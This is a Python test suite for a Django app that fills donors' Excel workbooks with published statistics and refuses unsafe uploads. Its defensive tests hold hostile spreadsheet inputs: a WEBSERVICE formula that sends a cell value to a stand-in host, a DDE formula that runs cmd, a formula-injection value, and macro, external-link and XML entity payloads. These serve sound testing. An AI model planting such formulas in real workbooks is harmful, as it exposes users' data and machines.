"""The national report, the copy sheet and a donor's workbook: what is published and nothing else, and nothing runs."""

import contextlib
import csv
import functools
import io
import re
import zipfile
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.workbook.defined_name import DefinedName

from tests.cast import Cast, Person, sign_in
from tests.numbers import small_world, story
from wayhome.audit.models import Entry
from wayhome.core import clock
from wayhome.core.refusals import Refused
from wayhome.numbers import copy_sheet, copying, models, reporting, workbooks
from wayhome.numbers.catalogue import OURS
from wayhome.numbers.workbooks import Asked

pytestmark = pytest.mark.django_db


def quarter() -> tuple[int, int]:
    return reporting.quarters()[0]


def get(who: Person, name: str, *args: object) -> str:
    answer = sign_in(Client(), who).get(reverse(f"numbers:{name}", args=args))
    assert answer.status_code == 200, name
    return answer.content.decode()


def template(names: dict[str, str], formula: str = "=B1+1") -> bytes:
    """A donor's workbook: cells of its own, and names for those that are to be filled."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Table 4"
    sheet["A1"], sheet["B1"], sheet["C1"] = "People helped", 0, formula
    for name, place in names.items():
        book.defined_names[name] = DefinedName(name, attr_text=f"'Table 4'!{place}")
    return saved(book)


def saved(book: Any) -> bytes:  # noqa: ANN401
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def send(who: Person, content: bytes, name: str = "donor.xlsx", period: str = "") -> Any:  # noqa: ANN401
    year = story.last_year()
    return sign_in(Client(), who).post(
        reverse("numbers:workbook"),
        {"file": SimpleUploadedFile(name, content), "period": period or str(year)},
    )


def test_a_report_of_the_quarter_says_what_is_new_and_what_stood_before(cast: Cast) -> None:
    world = story.ready(cast)
    assert "Nothing." in get(cast.rita, "report", *quarter())
    story.publish(world, "opened")
    story.publish(world, "opened-gender-age")
    story.publish(world, "opened-region")
    shown = get(cast.rita, "report", *quarter())
    assert "By gender and age" in shown
    assert "<svg" in shown
    names = re.findall(r' id="([^"]+)"', shown)
    assert len(names) == len(set(names)), "each picture has patterns of its own"
    assert "agreed to be counted without a name" in shown, "the definition stands under the number"
    before, after = shown.split('id="standing"')
    assert "By gender and age" in before
    assert "By gender and age" not in after
    with clock.shifted(timedelta(days=93)):
        before, after = get(cast.rita, "report", *reporting.quarters()[0]).split('id="standing"')
        assert "By gender and age" in after
        assert "By gender and age" not in before
    assert "By gender and age" not in get(cast.rita, "report", *reporting.quarters()[1]), "not published then"
    text = get(cast.rita, "report_file", *quarter())
    rows = list(csv.reader(text.removeprefix("\ufeff").splitlines()))
    assert ["How many"] in rows or any("How many" in row for row in rows)
    assert "hidden" in text
    for word in ("Harbour House", "Dawn Centre", "North Police"):
        assert word not in text, "no agency alone"
    assert 'class="paper full' in get_paper(cast.rita)
    far = sign_in(Client(), cast.rita).get(reverse("numbers:report", args=[1990, 1]))
    assert far.status_code == 404


def get_paper(who: Person) -> str:
    address = reverse("numbers:report", args=quarter())
    return sign_in(Client(), who).get(f"{address}?paper=full").content.decode()


def test_the_copy_sheet_keeps_its_order_and_tells_hidden_from_not_published(cast: Cast) -> None:
    world = story.ready(cast)
    story.publish(world, "opened-gender-age")
    year = story.last_year()
    places = copying.places()
    assert [one.number for one in places] == list(range(1, len(places) + 1))
    assert len({one.name.upper() for one in places}) == len(places)
    text = get(cast.rita, "copy_sheet_file", year, year)
    rows = list(csv.reader(text.removeprefix("\ufeff").splitlines()))[1:]
    assert [row[1] for row in rows] == [one.name for one in places]
    said = {row[1]: row[3] for row in rows}
    shown = models.Published.objects.get().value["cells"]
    for cell, count in shown:
        name = copying.name("opened-gender-age", (), tuple(cell))
        assert said[name] == ("hidden" if count is None else str(count))
    assert said["WH_opened"] == "not published"
    assert "WH_opened_gender_age_woman_30_plus" in get(cast.rita, "copy_sheet", year, year)
    assert (
        sign_in(Client(), cast.rita).get(reverse("numbers:copy_sheet", args=[1990, 1990])).status_code == 404
    )


def test_the_order_is_written_down() -> None:
    assert copy_sheet.PAGE.read_text(encoding="utf-8") == copy_sheet.text(), "run ./run docs"


def test_a_donors_workbook_is_filled_where_its_cells_have_names(cast: Cast) -> None:
    world = story.ready(cast)
    story.publish(world, "opened")
    content = template(
        {"WH_opened": "$B$1", "wh_period": "$B$2", "WH_opened_region_asia": "$B$3", "Own": "$B$4"}
    )
    answer = send(cast.rita, content)
    assert answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = book["Table 4"]
    assert sheet["B1"].value == 360
    assert sheet["C1"].value == "=B1+1", "the donor's own sums stay"
    assert sheet["B2"].value == str(story.last_year())
    assert sheet["B3"].value is None, "nothing is published there"
    said = [[cell.value for cell in row] for row in book["Wayhome"].iter_rows()]
    release = models.Published.objects.get()
    assert ["WH_opened", "How many people", 360, release.hash] in said
    assert any(row[0] == "Filled on" and str(row[1]).startswith(str(clock.today())) for row in said)
    assert any(row[0] == "WH_opened_region_asia" for row in said)
    assert Entry.objects.filter(action="numbers.workbook").count() == 1


def filled(content: bytes, agency: str = "Dawn Centre") -> Any:  # noqa: ANN401
    place = copying.places()[0]
    asked = Asked([copying.Line(place, 12, True, "f" * 64)], "2025", agency, clock.now())
    return openpyxl.load_workbook(io.BytesIO(workbooks.filled(content, asked)))


def test_what_is_hidden_is_a_word_and_nothing_is_run_as_a_formula() -> None:
    place = copying.places()[0]
    hidden = Asked([copying.Line(place, None, True, "f" * 64)], "2025", "=1+1", clock.now())
    content = template({"WH_opened": "$B$1", "WH_source": "$B$2"})
    book = openpyxl.load_workbook(io.BytesIO(workbooks.filled(content, hidden)))
    assert book["Table 4"]["B1"].value == "hidden"
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == ["=B1+1"]


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://x.example/"&B1)', '=HYPERLINK("http://x.example","look")', "=cmd|' /C calc'!A0"],
)
def test_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    with pytest.raises(Refused) as refused:
        filled(template({"WH_opened": "$B$1"}, formula))
    assert "Take it out" in refused.value.words


def with_member(name: str, content: bytes = b"x") -> bytes:
    out = io.BytesIO(template({"WH_opened": "$B$1"}))
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr(name, content)
    return out.getvalue()


def damaged() -> bytes:
    """What is packed in its first member is no packed thing any more."""
    content = bytearray(template({"WH_opened": "$B$1"}))
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        begins = 30 + len(packed.infolist()[0].filename)
    content[begins : begins + 20] = b"\xff" * 20
    return bytes(content)


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"no workbook", "Save it as .xlsx"),
        (damaged(), "cannot be read"),
        (with_member("xl/vbaProject.bin"), "macros"),
        (with_member("xl/externalLinks/externalLink1.xml"), "links to other files"),
        (with_member("xl/embeddings/oleObject1.bin"), "embedded"),
        (with_member("xl/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "cannot be read"),
        (with_member("xl/media/large.png", b"0" * (41 * 1024 * 1024)), "too large"),
        (template({}), "Name the cells"),
        (template({"WH_opened": "$B$1:$B$9"}), "Name the cells"),
    ],
)
def test_a_workbook_that_may_not_be_filled_says_what_to_do(content: bytes, sentence: str) -> None:
    assert filled(template({"WH_opened": "$B$1"}))["Table 4"]["B1"].value == 12, "it could"
    with pytest.raises(Refused) as refused:
        filled(content)
    assert sentence in refused.value.words


@functools.cache
def usual() -> bytes:
    """Its time stands in it: made once, it is the same each time."""
    return template({"WH_opened": "$B$1"})


@settings(deadline=None, max_examples=150, database=None)
@given(st.data())
def test_a_workbook_that_was_damaged_on_its_way_is_filled_or_refused(data: st.DataObject) -> None:
    content = bytearray(usual())
    places = data.draw(st.lists(st.integers(0, len(content) - 1), min_size=1, max_size=6))
    for place in places:
        content[place] = data.draw(st.integers(0, 255))
    with contextlib.suppress(Refused):
        filled(bytes(content[: data.draw(st.sampled_from([len(content), len(content) - 1, places[0]]))]))


def test_the_page_refuses_with_the_sentence_and_keeps_nothing(cast: Cast) -> None:
    world = story.ready(cast)
    story.publish(world, "opened")
    for content, name, sentence in (
        (with_member("xl/vbaProject.bin"), "donor.xlsx", "Save it as .xlsx without them"),
        (template({"WH_opened": "$B$1"}), "donor.xlsm", "Save the workbook as .xlsx"),
        (template({}), "donor.xlsx", "Name the cells as the copy sheet says"),
        (b"no workbook", "donor.xlsx", "The file is not what its name says"),  # refused while it arrived
        (b"", "donor.xlsx", "The file has nothing in it"),
    ):
        answer = send(cast.rita, content, name)
        assert answer.status_code == 422
        assert sentence in answer.content.decode()
    assert not Entry.objects.filter(action="numbers.workbook").exists()
    assert set(OURS.tables) == {one.table for one in copying.places()}


def test_a_place_of_everybody_is_called_as_its_own_catalogue_calls_it() -> None:
    kept = small_world.catalogue()
    assert copying.words("all", (), (), kept) == "All"
